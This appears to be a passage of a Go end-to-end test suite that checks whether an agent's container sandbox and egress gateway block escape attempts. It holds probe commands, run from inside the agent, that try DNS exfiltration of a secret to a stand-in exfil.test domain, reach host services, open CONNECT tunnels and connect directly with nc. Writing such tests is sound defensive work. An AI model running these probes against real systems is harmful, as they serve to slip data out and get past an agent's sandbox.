package main

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"debug/elf"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	cerrdefs "github.com/containerd/errdefs"
	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/filters"
	"github.com/docker/docker/api/types/image"
	"github.com/docker/docker/api/types/network"
	"github.com/docker/docker/client"
	"github.com/docker/docker/pkg/stdcopy"

	"github.com/bottlefile/bottlefile/drivers"
	"github.com/bottlefile/bottlefile/drivers/docker/dockertest"
	"github.com/bottlefile/bottlefile/egress"
)

// escapeLabel marks the containers of the escape suite's outside world,
// with the run's id as its value.
const escapeLabel = "io.bottlefile.test.escape"

// escapeBottlefile declares two bottles on the runtime "local", whose
// egress network is the test's outside world and whose gateways resolve
// names with the test's recording DNS server. alpha has an allowlist and a
// sidecar "web"; beta has an empty egress block (a gateway that allows
// nothing; a bottle without an egress block has no gateway at all, see
// TestE2EEgressAddRemove) and a sidecar "db". alpha's egress block holds a
// credential (for a name its allowlist opens), so that every way out is
// tried with credentials configured. Every
// workload serves its own name on :8080 (busybox httpd), so a connection
// that should fail would visibly succeed.
const escapeBottlefile = `
runtime "local" {
  driver         = "docker"
  egress_network = %q
  gateway_dns    = [%q]
}

agent "alpha" {
  runtime = runtime.local
  image   = %[3]q
  command = ["sh", "-c", %[5]q]
  egress {
    allow = %[4]s
    credential "vault" {
      host   = "vault.recorded.test:8080"
      header = "authorization"
      prefix = "Bearer "
      value  = %[9]q
      env    = "VAULT_TOKEN"
    }
  }
  sidecar "web" {
    image   = %[3]q
    command = ["sh", "-c", %[6]q]
  }
}

agent "beta" {
  runtime = runtime.local
  image   = %[3]q
  command = ["sh", "-c", %[7]q]
  egress {
    allow = []
  }
  sidecar "db" {
    image   = %[3]q
    command = ["sh", "-c", %[8]q]
  }
}
`

// serve is a busybox command that prints who it is, serves content on
// :8080 and keeps running.
func serve(content string) string {
	return fmt.Sprintf("echo %[1]s-up; mkdir -p /www && echo %[1]s > /www/index.html && httpd -p 8080 -h /www && exec sleep 3600", content)
}

// escapeRig is the suite's world: the outside network with its hosts, the
// recording DNS server, a service on the docker host, and the Bottlefile
// directory.
type escapeRig struct {
	t       *testing.T
	cli     *client.Client
	img     string
	run     string // random id of this run
	dir     string
	lineage string
	// credential is the value of alpha's credential: never in alpha.
	credential string

	outside       string       // the outside network's name (the runtime's egress_network)
	outsideSubnet netip.Prefix // its subnet
	outsideGW     netip.Addr   // its gateway: an address of the docker host

	allowedIP, deniedIP, recorderIP netip.Addr
	allowedID, recorderID           string
	// sinkIP is the flood sink (bench/gatewayabuse -mode sink on :9000),
	// an allowed destination as cheap as can be; abuseBin the tool.
	sinkIP   netip.Addr
	abuseBin string

	host         *hostService
	hostBaseline int // connections the host service had before the bottles tried

	// Bottles, after apply.
	alpha, alphaGW, alphaWeb, beta, betaGW, betaDB workload
	alphaNetGW                                     netip.Addr // alpha's bottle subnet gateway address
}

// workload is a container of a bottle.
type workload struct {
	id, name string
	ip       netip.Addr // on its bottle network
}

// TestEscape is the sandbox-escape suite of issue 5. From inside an agent,
// with busybox tools, it tries every way out the design says must be
// closed, each in its own subtest, and checks controls that prove every
// target would have answered if it were reachable.
func TestEscape(t *testing.T) {
	t.Parallel() // the long lane (e2e_test.go): not parallel(t)
	cli := dockertest.Client(t)
	r := &escapeRig{t: t, cli: cli, img: dockertest.BusyboxImage(t, cli), run: randomHex(4), dir: t.TempDir()}
	start := time.Now()
	r.buildWorld()
	r.applyBottles()
	t.Logf("world and bottles up in %v", time.Since(start).Round(time.Millisecond))

	t.Run("0_controls", r.controls)
	t.Run("1_allowed_host_through_proxy", r.allowedThroughProxy)
	t.Run("2_denied_host_403_and_logged", r.deniedHost)
	t.Run("2b_empty_allowlist_denies_all", r.emptyAllowlist)
	t.Run("3_allowed_host_other_port_denied", r.otherPort)
	t.Run("4_direct_to_outside_fails", r.directOutside)
	t.Run("5_dns_exfiltration", r.dnsExfiltration)
	t.Run("6_host_services_unreachable", r.hostServices)
	t.Run("7_other_bottle_unreachable", r.otherBottle)
	t.Run("8_gateway_other_ports_refuse", r.gatewayPorts)
	t.Run("9_metadata_unreachable", r.metadata)
	t.Run("10_allowlist_change_in_place", r.allowlistInPlace)
	t.Run("6b_bottle_gateway_via_proxy", r.bottleGatewayViaProxy)
	t.Run("7b_other_bottle_via_proxy", r.otherBottleViaProxy)
	t.Run("6c_host_service_saw_nothing", r.hostSawNothing)
	t.Run("11_embedded_and_special_addresses", r.embeddedAddresses)
	t.Run("12_search_domains_never_apply", r.searchDomains)
	t.Run("13_agent_resolver_never_forwards", r.agentResolver)
	t.Run("14_idle_and_unread_connections", r.idleConnections)
	t.Run("15_log_flood", r.logFlood)
	t.Run("16_revoked_rule_and_new_network", r.revokeAndNewNetwork)
	t.Run("17_credential_never_in_the_agent", r.credentialNeverInAgent)
	t.Run("18_rules_file_tampering", r.rulesFileTampering)
	t.Run("19_placeholder_in_every_form", r.placeholderEveryForm)
	t.Run("20_allowed_flood_keeps_refusals", r.allowedFlood)
	t.Logf("suite took %v", time.Since(start).Round(time.Millisecond))
}

func randomHex(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	return hex.EncodeToString(b)
}

// buildWorld makes the outside network, its hosts and the host service.
// makeOutside makes the network outside every bottle and finds the docker
// host's address on it.
func (r *escapeRig) makeOutside() {
	t := r.t
	r.outside, r.outsideSubnet = dockertest.TestNetwork(t, r.cli, map[string]string{escapeLabel: r.run})
	ninfo, err := r.cli.NetworkInspect(context.Background(), r.outside, network.InspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range ninfo.IPAM.Config {
		if a, err := netip.ParseAddr(c.Gateway); err == nil {
			r.outsideGW = a
		}
	}
	if !r.outsideGW.IsValid() {
		r.outsideGW = r.outsideSubnet.Addr().Next()
	}
}

func (r *escapeRig) buildWorld() {
	t := r.t
	r.makeOutside()
	t.Cleanup(r.removeWorld) // runs before the network's own cleanup

	page := func(name string, ports ...int) string {
		var b strings.Builder
		fmt.Fprintf(&b, "mkdir -p /www && echo %s > /www/index.html", name)
		for _, p := range ports[1:] {
			fmt.Fprintf(&b, " && httpd -p %d -h /www", p)
		}
		fmt.Fprintf(&b, " && exec httpd -f -p %d -h /www", ports[0])
		return b.String()
	}
	r.allowedID, r.allowedIP = r.outsider("allowed-host", r.img, []string{"sh", "-c", page("allowed-host-content", 8080, 8081)})
	_, r.deniedIP = r.outsider("denied-host", r.img, []string{"sh", "-c", page("denied-host-content", 8080)})
	r.recorderID, r.recorderIP = r.outsider("recorder", r.recorderImage(), nil)
	var sinkID string
	sinkID, r.sinkIP = r.outsider("flood-sink", scratchImage(t, r.cli, r.abuseBinary(t), "gatewayabuse"), []string{"/gatewayabuse", "-mode", "sink", "-addr", ":9000"})
	r.host = startHostService(t)
	r.waitLog(t, r.recorderID, "listening", 10*time.Second)
	r.waitLog(t, sinkID, "listening", 10*time.Second)
}

// abuseBinary builds bench/gatewayabuse statically, once.
func (r *escapeRig) abuseBinary(t *testing.T) string {
	if r.abuseBin == "" {
		r.abuseBin = buildStatic(t, "../../bench/gatewayabuse")
	}
	return r.abuseBin
}

// outsider starts a container of the outside world, with a network alias.
func (r *escapeRig) outsider(alias, img string, cmd []string) (string, netip.Addr) {
	return r.outsiderWithEnv(alias, img, cmd, nil)
}

// outsiderWithEnv is outsider with an environment.
func (r *escapeRig) outsiderWithEnv(alias, img string, cmd, env []string) (string, netip.Addr) {
	t := r.t
	ctx := context.Background()
	created, err := r.cli.ContainerCreate(ctx,
		&container.Config{Image: img, Cmd: cmd, Env: env, Labels: map[string]string{dockertest.TestLabel: "1", escapeLabel: r.run}},
		&container.HostConfig{NetworkMode: container.NetworkMode(r.outside)},
		&network.NetworkingConfig{EndpointsConfig: map[string]*network.EndpointSettings{r.outside: {Aliases: []string{alias}}}},
		nil, fmt.Sprintf("bottlefile-escape-%s-%s", r.run, alias))
	if err != nil {
		t.Fatalf("creating %s: %v", alias, err)
	}
	if err := r.cli.ContainerStart(ctx, created.ID, container.StartOptions{}); err != nil {
		t.Fatalf("starting %s: %v", alias, err)
	}
	info, err := r.cli.ContainerInspect(ctx, created.ID)
	if err != nil {
		t.Fatal(err)
	}
	ip, err := netip.ParseAddr(info.NetworkSettings.Networks[r.outside].IPAddress)
	if err != nil {
		t.Fatalf("%s has no address on %s: %v", alias, r.outside, err)
	}
	return created.ID, ip
}

// removeWorld removes the outside world's containers by label.
func (r *escapeRig) removeWorld() {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	list, err := r.cli.ContainerList(ctx, container.ListOptions{All: true, Filters: filters.NewArgs(filters.Arg("label", escapeLabel+"="+r.run))})
	if err != nil {
		r.t.Errorf("listing the outside world: %v", err)
		return
	}
	for _, c := range list {
		if err := r.cli.ContainerRemove(ctx, c.ID, container.RemoveOptions{Force: true}); err != nil && !cerrdefs.IsNotFound(err) {
			r.t.Errorf("removing %s: %v", c.Names, err)
		}
	}
}

// recorderImage builds testdata/dnsrecorder statically and imports it as a
// FROM scratch image (reused while the program is the same).
func (r *escapeRig) recorderImage() string {
	t := r.t
	bin := filepath.Join(t.TempDir(), "dnsrecorder")
	cmd := exec.Command("go", "build", "-trimpath", "-o", bin, "./testdata/dnsrecorder")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("building the DNS recorder: %v\n%s", err, out)
	}
	data, err := os.ReadFile(bin)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	tag := "bottlefile-test/dnsrecorder:" + hex.EncodeToString(sum[:6])
	ctx := context.Background()
	if _, err := r.cli.ImageInspect(ctx, tag); err == nil {
		return tag
	}
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "dnsrecorder", Mode: 0o755, Size: int64(len(data)), ModTime: time.Now()})
	tw.Write(data)
	tw.Close()
	rc, err := r.cli.ImageImport(ctx, image.ImportSource{Source: &buf, SourceName: "-"}, tag, image.ImportOptions{
		Changes: []string{`CMD ["/dnsrecorder"]`, fmt.Sprintf("LABEL %s=1", dockertest.TestLabel)},
	})
	if err != nil {
		t.Fatalf("importing the DNS recorder: %v", err)
	}
	io.Copy(io.Discard, rc)
	rc.Close()
	return tag
}

// hostService is a TCP service on the docker host, on every address: an
// HTTP server that answers "host-service-secret" and records who connected.
type hostService struct {
	port  int
	mu    sync.Mutex
	conns []string
}

func startHostService(t *testing.T) *hostService {
	ln, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	h := &hostService{port: ln.Addr().(*net.TCPAddr).Port}
	srv := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "host-service-secret\n") }),
		ConnState: func(c net.Conn, s http.ConnState) {
			if s == http.StateNew {
				h.mu.Lock()
				h.conns = append(h.conns, c.RemoteAddr().String())
				h.mu.Unlock()
			}
		},
		ReadHeaderTimeout: 5 * time.Second,
	}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return h
}

func (h *hostService) seen() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return slices.Clone(h.conns)
}

// hostAddrs are the docker host's own IPv4 addresses a bottle could aim
// at: those of its interfaces other than loopback and the bridges and veths
// of other networks (tests running beside this one own those), docker0's,
// and the outside network's gateway.
func (r *escapeRig) hostAddrs() []netip.Addr {
	var out []netip.Addr
	ifs, _ := net.Interfaces()
	for _, ifc := range ifs {
		if ifc.Flags&net.FlagLoopback != 0 || strings.HasPrefix(ifc.Name, "br-") || strings.HasPrefix(ifc.Name, "veth") {
			continue
		}
		addrs, _ := ifc.Addrs()
		for _, a := range addrs {
			if ipn, ok := a.(*net.IPNet); ok {
				if ip, ok := netip.AddrFromSlice(ipn.IP); ok && ip.Unmap().Is4() {
					out = append(out, ip.Unmap())
				}
			}
		}
	}
	if b, err := r.cli.NetworkInspect(context.Background(), "bridge", network.InspectOptions{}); err == nil {
		for _, c := range b.IPAM.Config {
			if a, err := netip.ParseAddr(c.Gateway); err == nil && !slices.Contains(out, a) {
				out = append(out, a)
			}
		}
	}
	if !slices.Contains(out, r.outsideGW) {
		out = append(out, r.outsideGW)
	}
	return out
}

// allowlist is alpha's allowlist: the allowed host by name and address on
// 8080 (names never match address rules, and the outside world's addresses
// are private, which only an address rule opts in), a wildcard whose
// lookups go to the recorder (the DNS control), and rules naming every
// host address on the host service's port and the metadata address, so
// that only the gateway's own refusals stand between them and the agent.
func (r *escapeRig) allowlist(extra ...string) []string {
	allow := []string{"allowed-host:8080", r.allowedIP.String() + ":8080", "*.recorded.test:8080", "169.254.169.254:80", "127.0.0.1:" + strconv.Itoa(r.host.port)}
	if r.sinkIP.IsValid() {
		allow = append(allow, r.sinkIP.String()+":9000")
	}
	for _, a := range r.hostAddrs() {
		allow = append(allow, fmt.Sprintf("%s:%d", a, r.host.port))
	}
	return append(allow, extra...)
}

func (r *escapeRig) writeConfig(allow []string) {
	list, _ := json.Marshal(allow)
	if r.credential == "" {
		r.credential = "escape-credential-" + randomHex(12)
	}
	writeBottlefile(r.t, r.dir, escapeBottlefile, r.outside, r.recorderIP.String(), r.img, string(list),
		serve("alpha-agent-content"), serve("alpha-web-content"), serve("beta-agent-content"), serve("beta-db-content"), r.credential)
}

// applyBottles applies the two bottles and finds their containers.
func (r *escapeRig) applyBottles() {
	t := r.t
	r.writeConfig(r.allowlist())
	if res := bottlefile(t, r.dir, "apply", "-auto-approve"); res.code != 0 {
		if _, err := os.Stat(filepath.Join(r.dir, ".bottlefile")); err == nil {
			lineageOf(t, r.cli, r.dir) // what the apply made goes too
		}
		t.Fatalf("apply: %s", res)
	}
	r.lineage = lineageOf(t, r.cli, r.dir)
	r.alpha = r.find(t, "agent.alpha")
	r.alphaGW = r.find(t, "agent.alpha.gateway")
	r.alphaWeb = r.find(t, "agent.alpha.sidecar.web")
	r.beta = r.find(t, "agent.beta")
	r.betaGW = r.find(t, "agent.beta.gateway")
	r.betaDB = r.find(t, "agent.beta.sidecar.db")
	ninfo, err := r.cli.NetworkInspect(context.Background(), "bf-"+r.lineage[:8]+"-alpha", network.InspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range ninfo.IPAM.Config {
		if a, err := netip.ParseAddr(c.Gateway); err == nil {
			r.alphaNetGW = a
		}
	}
	if !r.alphaNetGW.IsValid() && len(ninfo.IPAM.Config) > 0 {
		// inhibit_ipv4 leaves the gateway out of the inspection; the engine
		// still takes the subnet's first address for it (the agent's
		// default route points there).
		if p, err := netip.ParsePrefix(ninfo.IPAM.Config[0].Subnet); err == nil {
			r.alphaNetGW = p.Masked().Addr().Next()
		}
	}
	if !r.alphaNetGW.IsValid() {
		t.Fatalf("alpha's network %+v has no subnet", ninfo.IPAM)
	}
}

// find returns a bottle's container by address.
func (r *escapeRig) find(t *testing.T, addr string) workload {
	t.Helper()
	list := containersWith(t, r.cli, drivers.LabelAddress+"="+addr, drivers.LabelLineage+"="+r.lineage)
	if len(list) != 1 || list[0].State != "running" {
		t.Fatalf("want one running container for %s, got %+v", addr, list)
	}
	info, err := r.cli.ContainerInspect(context.Background(), list[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	w := workload{id: info.ID, name: strings.TrimPrefix(info.Name, "/")}
	netName := "bf-" + r.lineage[:8] + "-" + strings.Split(addr, ".")[1]
	if ep := info.NetworkSettings.Networks[netName]; ep != nil {
		w.ip, _ = netip.ParseAddr(ep.IPAddress)
	}
	if !w.ip.IsValid() {
		t.Fatalf("%s has no address on %s: %+v", addr, netName, info.NetworkSettings.Networks)
	}
	return w
}

// execResult is what a command printed (stdout and stderr together) and
// its exit code.
type execResult struct {
	out  string
	code int
}

// execIn runs a shell script in a container and waits for it.
func (r *escapeRig) execIn(t *testing.T, id, script string) execResult {
	t.Helper()
	out, code := dockertest.Exec(t, r.cli, id, "sh", "-c", script)
	return execResult{out: out, code: code}
}

// probe is one attempt, a shell command run from inside a container.
type probe struct {
	name string
	cmd  string
}

// probeAll runs the probes at once inside a container (a blocked
// connection costs its whole timeout, so they run in parallel) and returns
// each one's output and exit code by name.
func (r *escapeRig) probeAll(t *testing.T, id string, probes []probe) map[string]execResult {
	t.Helper()
	out := r.execIn(t, id, buildProbeScript(probes))
	results := map[string]execResult{}
	sections := regexp.MustCompile(`(?m)^### probe (\d+) rc=(\d+)$`).FindAllStringSubmatchIndex(out.out, -1)
	for k, m := range sections {
		idx, _ := strconv.Atoi(out.out[m[2]:m[3]])
		rc, _ := strconv.Atoi(out.out[m[4]:m[5]])
		end := len(out.out)
		if k+1 < len(sections) {
			end = sections[k+1][0]
		}
		if idx < len(probes) {
			results[probes[idx].name] = execResult{out: strings.TrimSpace(out.out[m[1]:end]), code: rc}
		}
	}
	for _, p := range probes {
		if _, ok := results[p.name]; !ok {
			t.Fatalf("probe %q left no result; the script printed:\n%s", p.name, out.out)
		}
	}
	return results
}

// buildProbeScript runs each probe in the background, recording its output
// and exit code in files, then prints them in order.
func buildProbeScript(probes []probe) string {
	var b strings.Builder
	b.WriteString("d=$(mktemp -d)\n")
	for i, p := range probes {
		fmt.Fprintf(&b, "( ( %s ) >$d/%d 2>&1 </dev/null; echo $? >$d/%d.rc ) &\n", p.cmd, i, i)
	}
	b.WriteString("wait\n")
	for i := range probes {
		fmt.Fprintf(&b, "echo \"### probe %d rc=$(cat $d/%d.rc)\"; cat $d/%d\n", i, i, i)
	}
	b.WriteString("rm -rf $d\n")
	return b.String()
}

// Probe commands. Every one is bounded by a short timeout.
func viaProxy(url string) string { return "timeout 5 wget -qO- " + shellQuote(url) }
func direct(url string) string   { return "timeout 3 wget -Y off -qO- " + shellQuote(url) }

// connect asks the gateway for a tunnel to dest and, once it had time to
// answer, sends a plain HTTP request through it.
func connect(gw, dest string) string {
	return fmt.Sprintf(`(printf 'CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n'; sleep 1; printf 'GET / HTTP/1.0\r\nHost: x\r\n\r\n'; sleep 2) | timeout 5 nc %[2]s 3128`, dest, gw)
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// wantBlocked fails unless a probe failed without showing marker.
func wantBlocked(t *testing.T, res map[string]execResult, name, marker string) {
	t.Helper()
	got := res[name]
	if got.code == 0 || (marker != "" && strings.Contains(got.out, marker)) {
		t.Errorf("%s: got through (exit %d): %q", name, got.code, got.out)
	}
}

// want403 fails unless a probe was refused by the gateway with a 403.
func want403(t *testing.T, res map[string]execResult, name, marker string) {
	t.Helper()
	got := res[name]
	if !strings.Contains(got.out, "403") || (marker != "" && strings.Contains(got.out, marker)) {
		t.Errorf("%s: want the gateway's 403, got (exit %d) %q", name, got.code, got.out)
	}
}

func wantContent(t *testing.T, res map[string]execResult, name, marker string) {
	t.Helper()
	if got := res[name]; !strings.Contains(got.out, marker) {
		t.Errorf("%s: want %q, got (exit %d) %q", name, marker, got.code, got.out)
	}
}

func (r *escapeRig) hostURL(a netip.Addr) string {
	return fmt.Sprintf("http://%s/", netip.AddrPortFrom(a, uint16(r.host.port)))
}

// controls: every target answers when it is reachable, so that a blocked
// attempt below means the bottle blocked it, not that nothing listened.
func (r *escapeRig) controls(t *testing.T) {
	res := r.probeAll(t, r.allowedID, []probe{
		{"allowed-host:8081 serves", "timeout 3 wget -qO- http://127.0.0.1:8081/"},
		{"denied-host serves", fmt.Sprintf("timeout 3 wget -qO- http://%s:8080/", r.deniedIP)},
		{"the host service answers the outside world", "timeout 3 wget -qO- " + r.hostURL(r.outsideGW)},
		{"the recorder records a direct query", fmt.Sprintf("timeout 4 nslookup control-%s.direct.test %s", r.run, r.recorderIP)},
	})
	wantContent(t, res, "allowed-host:8081 serves", "allowed-host-content")
	wantContent(t, res, "denied-host serves", "denied-host-content")
	wantContent(t, res, "the host service answers the outside world", "host-service-secret")
	r.waitLog(t, r.recorderID, "control-"+r.run+".direct.test", 5*time.Second)

	// Inside a bottle, its own sidecar answers by name, directly.
	res = r.probeAll(t, r.alpha.id, []probe{{"alpha reaches its sidecar web", direct("http://web:8080/")}})
	wantContent(t, res, "alpha reaches its sidecar web", "alpha-web-content")
	res = r.probeAll(t, r.beta.id, []probe{
		{"beta reaches its sidecar db", direct("http://db:8080/")},
		{"beta's agent serves", direct("http://127.0.0.1:8080/")},
	})
	wantContent(t, res, "beta reaches its sidecar db", "beta-db-content")
	wantContent(t, res, "beta's agent serves", "beta-agent-content")

	// The agent's proxy settings point at its gateway.
	env := r.execIn(t, r.alpha.id, "env").out
	for _, want := range []string{"HTTP_PROXY=http://" + r.alphaGW.name + ":3128", "https_proxy=http://" + r.alphaGW.name + ":3128", "NO_PROXY=localhost,127.0.0.1,web"} {
		if !strings.Contains(env, want) {
			t.Errorf("alpha's environment lacks %s:\n%s", want, env)
		}
	}
	r.hostBaseline = len(r.host.seen())
}

func (r *escapeRig) allowedThroughProxy(t *testing.T) {
	res := r.probeAll(t, r.alpha.id, []probe{
		{"absolute-form", viaProxy("http://allowed-host:8080/")},
		{"CONNECT", connect(r.alphaGW.name, "allowed-host:8080")},
	})
	wantContent(t, res, "absolute-form", "allowed-host-content")
	wantContent(t, res, "CONNECT", "allowed-host-content")
}

func (r *escapeRig) deniedHost(t *testing.T) {
	res := r.probeAll(t, r.alpha.id, []probe{
		{"absolute-form", viaProxy("http://denied-host:8080/")},
		{"CONNECT", connect(r.alphaGW.name, "denied-host:8080")},
		{"by address", viaProxy(fmt.Sprintf("http://%s:8080/", r.deniedIP))},
	})
	want403(t, res, "absolute-form", "denied-host-content")
	want403(t, res, "CONNECT", "denied-host-content")
	want403(t, res, "by address", "denied-host-content")

	// The gateway's log shows the denial, through bottlefile logs.
	res2 := bottlefile(t, r.dir, "logs", "agent.alpha.gateway")
	if res2.code != 0 {
		t.Fatalf("logs: %s", res2)
	}
	d, ok := findDecision(res2.stdout, "denied-host:8080")
	if !ok || d.Allowed || !strings.Contains(d.Reason, "not in the allowlist of agent.alpha") || d.Source == "" {
		t.Errorf("the gateway log has no denial of denied-host:8080 (found %v: %+v):\n%s", ok, d, res2.stdout)
	}
	if !strings.Contains(res2.stderr, `"event":"listening"`) {
		t.Errorf("the gateway's events are not on stderr:\n%s", res2.stderr)
	}
	if res := bottlefile(t, r.dir, "logs", "agent.alpha"); res.code != 0 || !strings.Contains(res.stdout, "alpha-agent-content-up") {
		t.Errorf("logs agent.alpha: %s", res)
	}
	if res := bottlefile(t, r.dir, "logs", "agent.beta.sidecar.db"); res.code != 0 || !strings.Contains(res.stdout, "beta-db-content-up") {
		t.Errorf("logs agent.beta.sidecar.db: %s", res)
	}
	if res := bottlefile(t, r.dir, "logs", "agent.alpha.network"); res.code != 1 || !strings.Contains(res.stderr, "keeps no log") {
		t.Errorf("logs of a network: %s", res)
	}

	// logs -f follows until interrupted.
	dest := "follow-" + r.run + ".test:8080"
	cmd := exec.Command(binary, "-chdir="+r.dir, "logs", "-f", "agent.alpha.gateway")
	out := &syncBuffer{}
	cmd.Stdout, cmd.Stderr = out, io.Discard
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Process.Kill()
	time.Sleep(300 * time.Millisecond)
	r.execIn(t, r.alpha.id, viaProxy("http://"+dest+"/"))
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(out.String(), dest) && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if !strings.Contains(out.String(), dest) {
		t.Errorf("logs -f did not show the decision on %s:\n%s", dest, out.String())
	}
	cmd.Process.Signal(syscall.SIGINT)
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("logs -f after an interrupt: %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Error("logs -f did not stop on an interrupt")
	}
}

func (r *escapeRig) emptyAllowlist(t *testing.T) {
	res := r.probeAll(t, r.beta.id, []probe{
		{"beta (empty allowlist) to the allowed host", viaProxy("http://allowed-host:8080/")},
		{"beta by address", viaProxy(fmt.Sprintf("http://%s:8080/", r.allowedIP))},
	})
	want403(t, res, "beta (empty allowlist) to the allowed host", "allowed-host-content")
	want403(t, res, "beta by address", "allowed-host-content")
}

func (r *escapeRig) otherPort(t *testing.T) {
	res := r.probeAll(t, r.alpha.id, []probe{
		{"absolute-form :8081", viaProxy("http://allowed-host:8081/")},
		{"CONNECT :8081", connect(r.alphaGW.name, "allowed-host:8081")},
		{"address :8081", viaProxy(fmt.Sprintf("http://%s:8081/", r.allowedIP))},
		{"default port 80", viaProxy("http://allowed-host/")},
	})
	for _, n := range []string{"absolute-form :8081", "CONNECT :8081", "address :8081", "default port 80"} {
		want403(t, res, n, "allowed-host-content")
	}
}

func (r *escapeRig) directOutside(t *testing.T) {
	res := r.probeAll(t, r.alpha.id, []probe{
		{"http to the allowed host's address", direct(fmt.Sprintf("http://%s:8080/", r.allowedIP))},
		{"tcp to the allowed host's address", fmt.Sprintf("timeout 3 nc %s 8080", r.allowedIP)},
		{"http to the denied host's address", direct(fmt.Sprintf("http://%s:8080/", r.deniedIP))},
		{"http to the allowed host by name", direct("http://allowed-host:8080/")},
		{"http to the outside network's gateway", direct(fmt.Sprintf("http://%s:8080/", r.outsideGW))},
		{"the gateway's outside address", direct(fmt.Sprintf("http://%s:3128/", r.gatewayOutsideIP(t, r.alphaGW)))},
	})
	for name := range res {
		wantBlocked(t, res, name, "-content")
	}
}

// gatewayOutsideIP is a gateway's address on the outside network.
func (r *escapeRig) gatewayOutsideIP(t *testing.T, w workload) netip.Addr {
	info, err := r.cli.ContainerInspect(context.Background(), w.id)
	if err != nil {
		t.Fatal(err)
	}
	ep := info.NetworkSettings.Networks[r.outside]
	if ep == nil {
		t.Fatalf("gateway %s is not on the outside network", w.name)
	}
	a, _ := netip.ParseAddr(ep.IPAddress)
	return a
}

func (r *escapeRig) dnsExfiltration(t *testing.T) {
	secret := "s3cr3t" + randomHex(6)
	res := r.probeAll(t, r.alpha.id, []probe{
		{"lookup through the bottle's resolver", fmt.Sprintf("timeout 4 nslookup %s-a.exfil.test", secret)},
		{"lookup sent to the recorder directly", fmt.Sprintf("timeout 4 nslookup %s-b.exfil.test %s", secret, r.recorderIP)},
		{"lookup sent to the gateway", fmt.Sprintf("timeout 4 nslookup %s-c.exfil.test %s", secret, r.alphaGW.ip)},
		{"proxy request for a denied name", viaProxy(fmt.Sprintf("http://%s-d.exfil.test:8080/", secret))},
		{"CONNECT to a denied name", connect(r.alphaGW.name, secret+"-e.exfil.test:443")},
		{"proxy request for an allowed name's denied port", viaProxy(fmt.Sprintf("http://%s-f.recorded.test:9999/", secret))},
	})
	for _, n := range []string{"lookup through the bottle's resolver", "lookup sent to the recorder directly", "lookup sent to the gateway"} {
		wantBlocked(t, res, n, "")
	}
	for _, n := range []string{"proxy request for a denied name", "CONNECT to a denied name", "proxy request for an allowed name's denied port"} {
		want403(t, res, n, "")
	}
	// Also from beta, whose allowlist is empty.
	resB := r.probeAll(t, r.beta.id, []probe{
		{"beta lookup", fmt.Sprintf("timeout 4 nslookup %s-g.exfil.test", secret)},
		{"beta proxy", viaProxy(fmt.Sprintf("http://%s-h.recorded.test:8080/", secret))},
	})
	wantBlocked(t, resB, "beta lookup", "")
	want403(t, resB, "beta proxy", "")

	// Control: a name the allowlist's wildcard allows is resolved by the
	// gateway, through the recorder. So had the gateway resolved any name
	// above, the recorder would have seen it (queries arrive in order).
	control := "ctl" + randomHex(6) + ".recorded.test"
	r.execIn(t, r.alpha.id, viaProxy("http://"+control+":8080/"))
	r.waitLog(t, r.recorderID, control, 10*time.Second)

	if log := r.logs(t, r.recorderID); strings.Contains(log, secret) {
		var leaked []string
		for _, line := range strings.Split(log, "\n") {
			if strings.Contains(line, secret) {
				leaked = append(leaked, line)
			}
		}
		t.Errorf("the recording DNS server received the secret:\n%s", strings.Join(leaked, "\n"))
	}
}

func (r *escapeRig) hostServices(t *testing.T) {
	targets := r.hostAddrs()
	route := r.execIn(t, r.alpha.id, "ip route").out
	var routed []netip.Addr
	for _, m := range regexp.MustCompile(`default via (\S+)`).FindAllStringSubmatch(route, -1) {
		if a, err := netip.ParseAddr(m[1]); err == nil {
			routed = append(routed, a)
		}
	}
	var probes []probe
	tried := map[netip.Addr]bool{}
	for _, a := range append(append(slices.Clone(targets), r.alphaNetGW), routed...) {
		if !tried[a] {
			tried[a] = true
			probes = append(probes, probe{"direct " + a.String(), direct(r.hostURL(a))})
		}
	}
	for _, a := range targets {
		probes = append(probes, probe{"via proxy " + a.String(), viaProxy(r.hostURL(a))})
	}
	probes = append(probes,
		probe{"via proxy 127.0.0.1", viaProxy(r.hostURL(netip.MustParseAddr("127.0.0.1")))},
		probe{"CONNECT docker0-or-host", connect(r.alphaGW.name, netip.AddrPortFrom(targets[0], uint16(r.host.port)).String())},
		probe{"CONNECT outside gateway", connect(r.alphaGW.name, netip.AddrPortFrom(r.outsideGW, uint16(r.host.port)).String())},
	)
	res := r.probeAll(t, r.alpha.id, probes)
	t.Logf("host addresses tried: %v, bottle gateway %s, default routes %v", targets, r.alphaNetGW, routed)
	for _, p := range probes {
		if strings.HasPrefix(p.name, "direct") {
			wantBlocked(t, res, p.name, "host-service-secret")
		} else {
			want403(t, res, p.name, "host-service-secret")
		}
	}
}

